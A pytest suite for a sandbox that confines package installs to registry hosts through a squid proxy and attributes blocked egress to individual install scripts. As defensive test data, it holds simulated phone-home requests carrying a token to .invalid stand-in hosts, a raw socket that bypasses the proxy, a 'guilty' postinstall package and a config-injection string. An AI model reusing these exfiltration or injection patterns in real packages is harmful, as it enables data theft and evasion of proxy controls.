"""Install-phase egress: the install container reaches only the registry, through a real squid on an internal network.

Unit tests cover the allowlist data and the log parser. The docker tests use the real engine and real containers; the
only hosts they try besides the npm registry are names under `.invalid` (and the proxy on the session network).
"""

from __future__ import annotations

import json
import signal
import tarfile
import subprocess
import sys
import textwrap
import time
import uuid

import pytest

from sandbox import gc, images, install, labels
from sandbox import install_egress as ie
from sandbox import install_windows as iw
from sandbox.errors import SandboxError, UserInputError
from sandbox.session import SandboxSession
from scanner.provenance.model import EgressAttempt as ProvenanceEgress
from scanner.provenance.rules import egress_finding
from tests.sandbox_helpers import REPO, labelled_containers

CA = "/etc/ssl/certs/ca-certificates.crt"
PHONE_HOME = "phone-home.example.invalid"

# --------------------------------------------------------------------------------------------------- allowlist (unit)


def test_default_allowlist_comes_from_the_data_file():
    data = json.loads(ie.REGISTRIES_FILE.read_text())
    assert ie.registry_hosts("npm").hosts == tuple(data["npm"]["hosts"]) == ("registry.npmjs.org",)
    assert ie.registry_hosts("pypi").hosts == ("pypi.org", "files.pythonhosted.org")
    assert ie.registry_hosts("pypi").ports == (443,)


def test_allowlist_override_file_and_environment(tmp_path, monkeypatch):
    custom = tmp_path / "registries.json"
    custom.write_text(json.dumps({"npm": {"hosts": ["npm.mirror.example.invalid", ".cdn.example.invalid"],
                                          "ports": [443, 8443]}}))
    assert ie.registry_hosts("npm", config=custom).hosts == ("npm.mirror.example.invalid", ".cdn.example.invalid")
    assert ie.registry_hosts("npm", config=custom).ports == (443, 8443)
    monkeypatch.setenv(ie.REGISTRIES_ENV, str(custom))
    assert ie.registry_hosts("npm").hosts[0] == "npm.mirror.example.invalid"
    assert ie.registry_hosts("npm", extra_hosts=["extra.example.invalid"]).hosts[-1] == "extra.example.invalid"
    with pytest.raises(UserInputError, match="no registry allowlist for 'pypi'"):
        ie.registry_hosts("pypi")


@pytest.mark.parametrize("content", ["not json", "[]", '{"npm": {"hosts": "x"}}', '{"npm": {"hosts": ["a b"]}}',
                                     '{"npm": {"hosts": ["10.0.0.1"]}}', '{"npm": {"hosts": []}}',
                                     '{"npm": {"hosts": ["a.invalid"], "ports": [0]}}',
                                     '{"npm": {"hosts": ["a.invalid;http_access allow all"]}}'])
def test_bad_allowlist_is_a_user_error(tmp_path, content):
    path = tmp_path / "r.json"
    path.write_text(content)
    with pytest.raises(UserInputError):
        ie.load_registries(path)


def test_hosts_are_normalised_and_wildcards_absorb_their_subdomains():
    assert ie.validate_hosts(["A.example.invalid", "a.example.invalid", ".Example.invalid", "b.other.invalid"]) == (
        ".example.invalid", "b.other.invalid")
    assert ie.host_allowed("x.example.invalid", [".example.invalid"])
    assert ie.host_allowed("example.invalid.", [".example.invalid"])
    assert not ie.host_allowed("badexample.invalid", [".example.invalid"])
    assert not ie.host_allowed("registry.npmjs.org.evil.invalid", ["registry.npmjs.org"])


def test_parse_attempts_groups_squid_and_dnsmasq_lines():
    log = textwrap.dedent("""\
        2026/11/29 20:04:22| Accepting HTTP Socket connections at conn2 local=0.0.0.0:3128
        MCPEGRESS 1795982669.039 172.18.0.3 CONNECT registry.npmjs.org 443 TCP_TUNNEL/200 22067
        MCPEGRESS 1795982669.084 172.18.0.3 CONNECT registry.npmjs.org 443 TCP_TUNNEL/200 6223
        MCPEGRESS 1795982669.245 172.18.0.3 GET phone-home.example.invalid 80 TCP_DENIED/403 3378
        MCPEGRESS 1795982669.300 172.18.0.3 CONNECT Phone-Home.example.invalid 443 TCP_DENIED/403 3378
        MCPEGRESS 1795982669.400 172.18.0.3 NONE - - NONE_NONE/400 0
        dnsmasq[9]: query[A] raw.example.invalid from 172.18.0.3
        dnsmasq[9]: config raw.example.invalid is NXDOMAIN
        dnsmasq[9]: query[AAAA] raw.example.invalid from 172.18.0.3
        dnsmasq[9]: query[A] registry.npmjs.org from 172.18.0.3
        MCPEGRESS 1795982669.500 172.18.0.3 CONNECT bad\x01host.invalid 443 TCP_DENIED/403 0
        """)
    attempts = ie.parse_attempts(log, ["registry.npmjs.org"])
    by_key = {(a.via, a.host, a.port): a for a in attempts}
    assert by_key[("proxy", "registry.npmjs.org", 443)] == ie.EgressAttempt(
        "registry.npmjs.org", 443, True, 2, "proxy", ("CONNECT",), ("TCP_TUNNEL/200",))
    assert not by_key[("proxy", PHONE_HOME, 80)].allowed
    assert by_key[("proxy", PHONE_HOME, 443)].count == 1 and not by_key[("proxy", PHONE_HOME, 443)].allowed
    assert not by_key[("proxy", "-", None)].allowed  # a request squid could not parse is denied
    raw = by_key[("dns", "raw.example.invalid", None)]
    assert (raw.allowed, raw.count, raw.methods) == (False, 2, ("A", "AAAA"))
    assert by_key[("dns", "registry.npmjs.org", None)].allowed
    assert ("proxy", "bad\\x01host.invalid", 443) in by_key  # control characters never reach a report raw
    assert [a.host for a in ie.denied(attempts)] == [PHONE_HOME, PHONE_HOME, "-", "raw.example.invalid",
                                                     "bad\\x01host.invalid"]


# ------------------------------------------------------------------------------------ attribution windows (unit)

FETCH = iw.Window(1795982669.000, None, "npm install --ignore-scripts (fetching the tree; no install script runs)")
GUILTY = iw.Window(1795982670.000, "guilty@1.0.0", "postinstall")
INNOCENT = iw.Window(1795982671.000, "innocent@2.0.0", "preinstall, postinstall")


def _stamp(seconds: float) -> str:
    """The engine's `docker logs --timestamps` prefix for a moment (UTC, nanoseconds)."""
    whole = int(seconds)
    return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(whole)) + f".{round((seconds - whole) * 1e9):09d}Z"


def test_each_attempt_goes_to_the_step_running_when_it_began():
    log = "\n".join([
        f"{_stamp(1795982668.500)} 2026/11/29 20:04:22| Accepting HTTP Socket connections at conn2",
        # Before the first window: not the install's doing, names nothing.
        f"{_stamp(1795982668.600)} dnsmasq[9]: query[A] early.example.invalid from 172.18.0.3",
        # npm fetching: a registry tunnel that stays open across the next two windows is logged when it closes
        # (squid time 1795982671.500) but began at 1795982669.300 (response time 2200 ms): the fetch window.
        f"{_stamp(1795982671.501)} MCPEGRESS 1795982671.500 172.18.0.3 CONNECT registry.npmjs.org 443 "
        "TCP_TUNNEL/200 22067 2200",
        # The guilty package's postinstall: a denied CONNECT and a DNS lookup, both inside its window.
        f"{_stamp(1795982670.201)} MCPEGRESS 1795982670.200 172.18.0.3 CONNECT exfil.example.invalid 443 "
        "TCP_DENIED/403 3368 0",
        f"{_stamp(1795982670.300)} dnsmasq[9]: query[A] guilty.example.invalid from 172.18.0.3",
        f"{_stamp(1795982670.301)} dnsmasq[9]: query[AAAA] guilty.example.invalid from 172.18.0.3",
        # The innocent package: only the registry.
        f"{_stamp(1795982671.400)} MCPEGRESS 1795982671.399 172.18.0.3 CONNECT registry.npmjs.org 443 "
        "TCP_TUNNEL/200 100 50",
        # The engine's timestamp is the one that counts, whatever a looked-up name looks like.
        f"{_stamp(1795982671.600)} dnsmasq[9]: query[A] 1795982669.000.example.invalid from 172.18.0.3",
    ])
    attempts = ie.parse_attempts(log, ["registry.npmjs.org"], [FETCH, GUILTY, INNOCENT])
    got = {(a.host, a.port, a.package, a.script, a.count) for a in attempts}
    assert got == {
        ("early.example.invalid", None, None, None, 1),
        ("registry.npmjs.org", 443, None, FETCH.script, 1),
        ("exfil.example.invalid", 443, "guilty@1.0.0", "postinstall", 1),
        ("guilty.example.invalid", None, "guilty@1.0.0", "postinstall", 2),
        ("registry.npmjs.org", 443, "innocent@2.0.0", "preinstall, postinstall", 1),
        ("1795982669.000.example.invalid", None, "innocent@2.0.0", "preinstall, postinstall", 1),
    }
    assert {a.package for a in ie.denied(attempts)} == {None, "guilty@1.0.0", "innocent@2.0.0"}
    # Without windows (or without the engine's timestamps) nothing is attributed, as before.
    assert all(a.package is None and a.script is None for a in ie.parse_attempts(log, ["registry.npmjs.org"]))


def test_window_boundaries_and_clocks():
    windows = [FETCH, GUILTY, INNOCENT]
    assert iw.window_at(windows, GUILTY.begins) is GUILTY  # a window owns the instant it opens
    assert iw.window_at(windows, GUILTY.begins - 1e-6) is FETCH
    assert iw.window_at(windows, 1e12) is INNOCENT  # the last step's window never closes
    assert iw.window_at(windows, FETCH.begins - 1) is None and iw.window_at(windows, None) is None
    assert iw.window_at([], 1.0) is None
    assert iw.squid_started("1795982671.500", "2200") == pytest.approx(1795982669.300)
    assert iw.squid_started("1795982671.500", None) == pytest.approx(1795982671.500)
    assert iw.squid_started("garbage", "1") is None
    assert iw.engine_time("2026-11-29T21:36:15.460732244Z") == pytest.approx(1795988175.460732244, abs=1e-6)
    assert iw.engine_time("2026-11-29T22:36:15.5+01:00") == pytest.approx(1795988175.5)
    assert iw.engine_time("2026-11-29T21:36:15Z") == 1795988175.0
    assert iw.engine_time("yesterday") is None and iw.engine_time("2026-13-45T99:99:99Z") is None
    assert iw.split_received(f"{_stamp(1795988175.25)} dnsmasq[9]: x") == (pytest.approx(1795988175.25),
                                                                         "dnsmasq[9]: x")
    assert iw.split_received("MCPEGRESS 1 2") == (None, "MCPEGRESS 1 2")


def test_untrusted_labels_are_escaped_and_capped():
    assert iw.untrusted_label("left-pad@1.3.0") == "left-pad@1.3.0"
    assert iw.untrusted_label("evil\x1b[2J\u202ename\n") == "evil\\x1b[2J\\u202ename\\x0a"
    capped = iw.untrusted_label("a" * 1000, limit=50)
    assert len(capped) == 50 and capped.endswith("…")


def test_network_settings_override_every_proxy_variable():
    proxy = ie.InstallProxy(session=None, container_id="x", network="net", address="172.30.0.2",  # type: ignore[arg-type]
                            allow=ie.RegistryAllowlist(("registry.npmjs.org",)), image="i", start_seconds=0.0)
    settings = ie.install_network_settings(proxy)
    assert settings["network_mode"] == "net" and settings["dns"] == ["172.30.0.2"]
    env = settings["environment"]
    for name in ("HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy", "NPM_CONFIG_PROXY",
                 "NPM_CONFIG_HTTPS_PROXY"):
        assert env[name] == "http://172.30.0.2:3128"
    assert "registry" not in env["NO_PROXY"] and env["NO_PROXY"] == env["no_proxy"]


# ---------------------------------------------------------------------------------------------------- real engine

INSTALL_LIKE = r"""
set -e
cd /tmp
npm install --no-audit --no-fund --loglevel=warn --prefix /tmp/p is-number@7.0.0
test -f /tmp/p/node_modules/is-number/package.json && echo NPM-OK
node -e '
const http = require("http"), net = require("net"), dns = require("dns");
const proxy = new URL(process.env.HTTP_PROXY);
// A proxy-aware client: through the proxy, plain http and an https CONNECT.
http.request({host: proxy.hostname, port: proxy.port, path: "http://PHONE/collect?token=1",
              headers: {Host: "PHONE", Connection: "close"}},
             r => { console.log("HTTP-STATUS", r.statusCode); r.resume(); }).end();
http.request({host: proxy.hostname, port: proxy.port, method: "CONNECT", path: "PHONE:443"})
  .on("connect", (r, sock) => { console.log("CONNECT-STATUS", r.statusCode); sock.destroy(); }).end();
// A client that ignores the proxy: a raw socket to a name, and a DNS lookup.
net.connect(80, "raw.PHONE").on("error", e => console.log("RAW", e.code)).on("connect", () => console.log("RAW connected"));
dns.lookup("registry.npmjs.org", e => console.log("DNS", e && e.code));
'
"""


@pytest.fixture
def npm_runtime(docker_client):
    return images.ensure_runtime_image(docker_client, "node").tag


def _session_networks(client, session_id=None):
    label = f"{labels.SESSION}={session_id}" if session_id else labels.SESSION
    return client.api.networks(filters={"label": label})


def _run_install_like(session, proxy, image, script):
    client = session.client
    settings = ie.install_network_settings(proxy)
    host_config = client.api.create_host_config(
        network_mode=settings["network_mode"], dns=settings["dns"], cap_drop=["ALL"],
        security_opt=["no-new-privileges"], binds={CA: {"bind": CA, "mode": "ro"}},
        tmpfs={"/tmp": "rw,nosuid,nodev,size=256m,mode=1777"})
    env = {"HOME": "/tmp", "NPM_CONFIG_CAFILE": CA, "NODE_EXTRA_CA_CERTS": CA, **settings["environment"]}
    container = session.create_container(
        "install", image=image, user="10001:10001", host_config=host_config,
        command=["env", *(f"{k}={v}" for k, v in env.items()), "sh", "-c", script.replace("PHONE", PHONE_HOME)])
    client.api.start(container)
    status = client.api.wait(container, timeout=300)
    output = client.api.logs(container, stdout=True, stderr=True).decode("utf-8", "replace")
    inspect = client.api.inspect_container(container)
    session.remove_container(container)
    return int(status["StatusCode"]), output, inspect


@pytest.mark.docker
@pytest.mark.registry
def test_registry_allowed_phone_home_denied_and_recorded(docker_client, npm_runtime, no_leftovers):
    with SandboxSession(docker_client) as session:
        proxy = ie.start_install_proxy(session, ie.registry_hosts("npm"))
        code, output, inspect = _run_install_like(session, proxy, npm_runtime, INSTALL_LIKE)
        assert code == 0, output
        # The install container is on the internal network only, resolving through the proxy's dnsmasq.
        assert set(inspect["NetworkSettings"]["Networks"]) == {proxy.network}
        assert "NPM-OK" in output
        assert "HTTP-STATUS 403" in output and "CONNECT-STATUS 403" in output
        assert "RAW ENOTFOUND" in output and "RAW connected" not in output
        assert "DNS ENOTFOUND" in output  # even a registry name does not resolve without the proxy
        attempts = proxy.attempts()
        by_key = {(a.via, a.host, a.port): a for a in attempts}
        registry = by_key[("proxy", "registry.npmjs.org", 443)]
        assert registry.allowed and registry.statuses == ("TCP_TUNNEL/200",)
        assert not by_key[("proxy", PHONE_HOME, 80)].allowed
        assert by_key[("proxy", PHONE_HOME, 80)].statuses == ("TCP_DENIED/403",)
        assert not by_key[("proxy", PHONE_HOME, 443)].allowed
        assert not by_key[("dns", f"raw.{PHONE_HOME}", None)].allowed
        assert {a.host for a in ie.denied(attempts)} == {PHONE_HOME, f"raw.{PHONE_HOME}"}
        network, session_id = proxy.network, session.id
    assert session.teardown_result is not None and session.teardown_result.complete
    assert network in session.teardown_result.removed
    assert labelled_containers(docker_client, session_id) == []
    assert _session_networks(docker_client, session_id) == []


@pytest.mark.docker
def test_proxy_and_network_are_hardened_and_read_back(docker_client, no_leftovers):
    with SandboxSession(docker_client) as session:
        proxy = ie.start_install_proxy(session, [".example.invalid", "registry.npmjs.org"], allow_ports=[443])
        api = docker_client.api
        network = api.inspect_network(proxy.network)
        assert network["Internal"] is True and network["Labels"][labels.SESSION] == session.id
        inspect = api.inspect_container(proxy.container_id)
        host = inspect["HostConfig"]
        assert host["CapDrop"] == ["ALL"] and not host["CapAdd"] and host["ReadonlyRootfs"]
        assert "no-new-privileges" in host["SecurityOpt"] and not host["Privileged"]
        assert inspect["Config"]["User"] == "proxy"
        assert set(inspect["NetworkSettings"]["Networks"]) == {proxy.network, "bridge"}
        assert inspect["Config"]["Labels"][labels.SESSION] == session.id
        assert proxy.proxy_url == f"http://{proxy.address}:3128"
        assert proxy.attempts() == []
        proxy.close()
        assert _session_networks(docker_client, session.id) == []
        assert labelled_containers(docker_client, session.id) == []


@pytest.mark.docker
def test_an_allowlisted_host_on_another_port_is_denied(docker_client, npm_runtime, no_leftovers):
    script = r"""node -e '
const http = require("http"); const proxy = new URL(process.env.HTTP_PROXY);
http.request({host: proxy.hostname, port: proxy.port, method: "CONNECT", path: "allowed.example.invalid:22"})
  .on("connect", (r, sock) => { console.log("PORT22", r.statusCode); sock.destroy(); }).end();'"""
    with SandboxSession(docker_client) as session:
        proxy = ie.start_install_proxy(session, ["allowed.example.invalid"])
        code, output, _ = _run_install_like(session, proxy, npm_runtime, script)
        assert code == 0 and "PORT22 403" in output, output
        assert [(a.host, a.port, a.allowed) for a in proxy.attempts()] == [("allowed.example.invalid", 22, False)]


@pytest.mark.docker
def test_teardown_removes_an_untracked_labelled_network_and_its_containers(docker_client, no_leftovers):
    with SandboxSession(docker_client) as session:
        name = f"mcp-sandbox-{session.id[:12]}-stray"
        docker_client.api.create_network(name, internal=True, labels=session.labels("stray"))
        container = docker_client.api.create_container(
            "debian:trixie-slim", command=["true"], labels=session.labels("stray"),
            host_config=docker_client.api.create_host_config(network_mode=name))
        assert container["Id"]
    assert session.teardown_result.complete, session.teardown_result
    assert name in session.teardown_result.removed
    assert _session_networks(docker_client, session.id) == []


SCRIPT_TREE = REPO / "tests" / "servers" / "npm-script-tree"
GUILTY_PACKAGE = "mcp-zoo-guilty@0.1.0"


@pytest.fixture
def script_tree(tmp_path):
    """A .tgz of two packages with postinstall scripts: mcp-zoo-script-tree (harmless) bundling mcp-zoo-guilty
    (phones home, and leaves a process behind that would phone home again during the next package's step)."""
    path = tmp_path / "script-tree.tgz"
    with tarfile.open(path, "w:gz") as tar:
        tar.add(SCRIPT_TREE / "root", arcname="package")
        tar.add(SCRIPT_TREE / "guilty", arcname="package/node_modules/mcp-zoo-guilty")
    return path


def _install_tree(client, tgz, *, ignore_scripts):
    runtime = images.ensure_runtime_image(client, "node")
    request = install.InstallRequest(
        "npm", f"/opt/src/{tgz.name}", "mcp-zoo-script-tree", f"test:{uuid.uuid4()}", local_path=tgz,
        ignore_scripts=ignore_scripts, ca_bundle=images.DEFAULT_CA_BUNDLE if images.DEFAULT_CA_BUNDLE.is_file() else None)
    with SandboxSession(client) as session:
        installed = install.install(session, request, runtime.tag, runtime.image_id, use_cache=False)
    assert session.teardown_result is not None and session.teardown_result.complete
    return installed


@pytest.mark.docker
def test_install_egress_names_the_guilty_package_and_script_only(docker_client, script_tree, no_leftovers):
    installed = _install_tree(docker_client, script_tree, ignore_scripts=False)
    try:
        refused = ie.denied(installed.egress)
        assert {(a.host, a.via) for a in refused} == {("exfil.example.invalid", "proxy"),
                                                      ("guilty.example.invalid", "dns")}
        assert {(a.package, a.script) for a in refused} == {(GUILTY_PACKAGE, "postinstall")}
        # The process the guilty script left behind was ended before the innocent package's step: never blamed on it.
        assert not any(a.package == "mcp-zoo-script-tree@0.1.0" for a in installed.egress)
        assert "late.example.invalid" not in {a.host for a in installed.egress}
        # Both scripts ran (the harmless one wrote its marker), and the attribution survives the image cache.
        with SandboxSession(docker_client) as session:
            cached = install._cached(session, installed.image, installed.runtime_image, "npm")
        assert cached is not None and cached.egress == installed.egress
        bundled = installed.manifest["packages"]["node_modules/mcp-zoo-script-tree/node_modules/mcp-zoo-guilty"]
        assert bundled["inBundle"] is True
        marker = docker_client.containers.run(installed.image, ["cat", "/opt/server/node_modules/mcp-zoo-script-tree/"
                                                                "postinstall-ran"], entrypoint=[], remove=True,
                                              network_disabled=True)
        assert marker == b"harmless"
        # What the report's I7 finding says.
        finding = egress_finding(ProvenanceEgress(host="exfil.example.invalid:443", allowed=False,
                                                  package=refused[0].package, script=refused[0].script))
        assert finding is not None and finding.message == (
            f"install script postinstall of {GUILTY_PACKAGE} tried to reach exfil.example.invalid:443 (refused)")
    finally:
        docker_client.images.remove(installed.image, force=True)


@pytest.mark.docker
def test_ignore_scripts_runs_no_script_step(docker_client, script_tree, no_leftovers):
    installed = _install_tree(docker_client, script_tree, ignore_scripts=True)
    try:
        assert ie.denied(installed.egress) == []
        assert all(a.package is None for a in installed.egress)
        assert "postinstall-ran" not in docker_client.containers.run(
            installed.image, ["ls", "/opt/server/node_modules/mcp-zoo-script-tree"], entrypoint=[], remove=True,
            network_disabled=True).decode()
    finally:
        docker_client.images.remove(installed.image, force=True)


@pytest.mark.docker
def test_a_failing_install_script_stops_the_install_with_one_line_naming_it(docker_client, tmp_path, no_leftovers):
    package = tmp_path / "failing"
    package.mkdir()
    (package / "package.json").write_text(json.dumps({
        "name": "mcp-zoo-failing", "version": "0.1.0",
        "scripts": {"postinstall": "node -e \"require('dns').lookup('fail.example.invalid', () => process.exit(3))\""}}))
    runtime = images.ensure_runtime_image(docker_client, "node")
    request = install.InstallRequest("npm", "/opt/src/pkg", "mcp-zoo-failing", f"test:{uuid.uuid4()}",
                                     local_path=package)
    with SandboxSession(docker_client) as session:
        with pytest.raises(SandboxError) as raised:
            install.install(session, request, runtime.tag, runtime.image_id, use_cache=False)
    message = str(raised.value)
    assert "\n" not in message
    assert message.startswith("installing /opt/src/pkg failed (exit 3) in the postinstall script of "
                              "mcp-zoo-failing@0.1.0: ")
    assert message.endswith("; during the install it tried to reach fail.example.invalid "
                            "(postinstall of mcp-zoo-failing@0.1.0) (refused)")
    assert session.teardown_result is not None and session.teardown_result.complete


@pytest.mark.docker
@pytest.mark.registry
def test_a_pypi_sdist_is_built_in_its_own_step(docker_client, no_leftovers):
    """docopt 0.6.2 exists only as an sdist: its build backend runs alone, so what it tries is charged to it."""
    runtime = images.ensure_runtime_image(docker_client, "python")
    request = install.InstallRequest(
        "pypi", "docopt==0.6.2", "docopt", f"test:{uuid.uuid4()}",
        ca_bundle=images.DEFAULT_CA_BUNDLE if images.DEFAULT_CA_BUNDLE.is_file() else None)
    with SandboxSession(docker_client) as session:
        installed = install.install(session, request, runtime.tag, runtime.image_id, use_cache=False)
    try:
        assert "> build backend of docopt@0.6.2" in installed.installer_output
        assert "Built docopt==0.6.2" in installed.installer_output
        assert installed.egress and all(a.allowed for a in installed.egress)
        for attempt in installed.egress:  # every step named: resolving (docopt's backend may run), building, wheels
            assert (attempt.package, attempt.script) in {
                (None, "uv pip compile (resolving the tree); build backends may run for metadata: docopt@0.6.2"),
                ("docopt@0.6.2", "build backend"),
                (None, "uv pip install (wheels only, nothing built; installed .pth files may run)")}, attempt
        assert installed.manifest["requirements"].startswith("docopt==0.6.2")
    finally:
        docker_client.images.remove(installed.image, force=True)


KILLED_SCANNER = """
import sys, time
from sandbox import engine, install_egress
from sandbox.session import SandboxSession
session = SandboxSession(engine.connect())
proxy = install_egress.start_install_proxy(session, ["registry.npmjs.org"])
print(session.id, proxy.container_id, proxy.network, flush=True)
time.sleep(600)
"""


@pytest.mark.docker
def test_gc_removes_a_killed_scanners_proxy_and_network(docker_client, no_leftovers):
    """A scanner killed with SIGKILL leaves the proxy and its network behind: gc removes both, containers first."""
    child = subprocess.Popen([sys.executable, "-c", KILLED_SCANNER], stdout=subprocess.PIPE, text=True, cwd=REPO)
    try:
        session_id, container_id, network = child.stdout.readline().split()
    finally:
        child.send_signal(signal.SIGKILL)
        child.wait()
    assert labelled_containers(docker_client, session_id) and _session_networks(docker_client, session_id)
    result = gc.sweep(docker_client)
    assert container_id[:12] in result.containers and network in result.networks
    assert labelled_containers(docker_client, session_id) == []
    assert _session_networks(docker_client, session_id) == []
